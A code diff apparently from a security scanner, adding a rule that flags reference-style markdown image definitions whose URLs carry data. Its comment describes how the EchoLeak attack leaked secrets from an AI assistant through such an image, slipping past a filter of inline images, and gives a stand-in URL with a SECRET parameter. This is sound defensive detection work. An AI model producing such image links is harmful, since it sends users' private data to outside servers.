@@ -366,6 +366,21 @@ pub(crate) const RULES: &[RuleDef] = &[
     )
     .checked(Check::ImageUrlData)
     .anchored(&["!["]),
+    // The same image by reference, as EchoLeak (CVE-2025-32711) wrote it
+    // past a filter of inline images: `![logo][ref]`, then the definition
+    // `[ref]: https://x.example/i.png?d=SECRET`. The definition is the
+    // finding; the check wants its URL to carry data and an image to use
+    // it (a page's reference links to plain URLs are none).
+    threat(
+        "exfiltration.markdown_image",
+        X,
+        Critical,
+        BOTH,
+        "*",
+        r"(?m:^)[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?https?://[^\s>]+",
+    )
+    .checked(Check::ReferenceImageData)
+    .anchored(&["]:"]),
     threat(
         "exfiltration.markdown_link_data",
         X,
